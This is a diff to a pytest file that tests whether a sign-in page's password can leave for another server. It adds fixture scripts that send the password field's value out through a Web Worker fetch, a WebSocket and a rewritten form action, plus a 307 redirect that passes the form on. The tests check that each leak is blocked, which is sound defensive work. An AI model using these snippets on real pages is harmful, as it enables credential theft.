@@ -94,7 +94,20 @@ ON_ITS_WAY: dict[str, Page] = {
     "a new window": lambda at: sign_in(
         script=f"f.onsubmit = () => {{ f.target = '_blank'; f.action = '{at.other.url('/in')}' }}"
     ),
+    "a worker": lambda at: sign_in(
+        script="p.oninput = () => new Worker(URL.createObjectURL(new Blob(["
+        f"`fetch('{at.other.url('/in')}', {{method: 'POST', mode: 'no-cors', body: ${{JSON.stringify(p.value)}}}})`])))"
+    ),
+    "a web socket": lambda at: sign_in(
+        script=f"p.oninput = () => new WebSocket('ws{at.other.url('/in')[4:]}?' + encodeURIComponent(p.value))"
+    ),
+    "a server that sends the form on": lambda at: sign_in(action=at.named.url("/sent-on")),
 }
+OTHERS_THINGS = {
+    "style sheet": '<link rel="stylesheet" href="{}">',
+    "script": '<script src="{}"></script>',
+}
+"""What a page may need of another server: it is asked for before anything is typed."""
 
 
 @pytest.fixture
@@ -104,6 +117,7 @@ def place() -> Iterator[Place]:
         other.pages |= {"/login": sign_in(), "/in": CONSOLE}
         other.pages["/frames-ours"] = _framed(named.url("/plain"))
         named.pages["/plain"] = sign_in()
+        named.pages["/sent-on"] = Told(status=307, headers={"Location": other.url("/in")})
         yield Place(named, other)
 
 
@@ -143,6 +157,26 @@ def test_a_password_that_a_script_takes_elsewhere_is_stopped_on_its_way(
     code, said = tried(flows, place, ON_ITS_WAY[page])
     assert not find(place.other.log, [SECRET]), "it arrived"
     assert code == 5, said
+
+
+@pytest.mark.parametrize("thing", OTHERS_THINGS)
+def test_a_page_gets_what_it_needs_of_another_server_and_a_password_is_stopped_all_the_same(
+    flows: Flows, place: Place, thing: str
+) -> None:
+    needed = OTHERS_THINGS[thing].format(place.other.url("/needed"))
+    tried(flows, place, lambda at: sign_in(head=needed))
+    assert b"GET /needed" in place.other.log
+    assert find(place.named.log, [SECRET])
+    take = f"f.addEventListener('submit', () => f.action = '{place.other.url('/in')}')"
+    code, said = tried(flows, place, lambda at: sign_in(head=needed, script=take))
+    assert not find(place.other.log, [SECRET]), "it arrived"
+    assert code == 5, said
+
+
+def test_nothing_else_is_asked_of_another_server(flows: Flows, place: Place) -> None:
+    tried(flows, place, lambda at: sign_in(head=f'<img src="{at.other.url("/counted")}" alt="">'))
+    assert find(place.named.log, [SECRET])
+    assert place.other.log == b""
 
 
 def test_the_same_page_without_a_trick_is_signed_in_to(flows: Flows, place: Place) -> None:
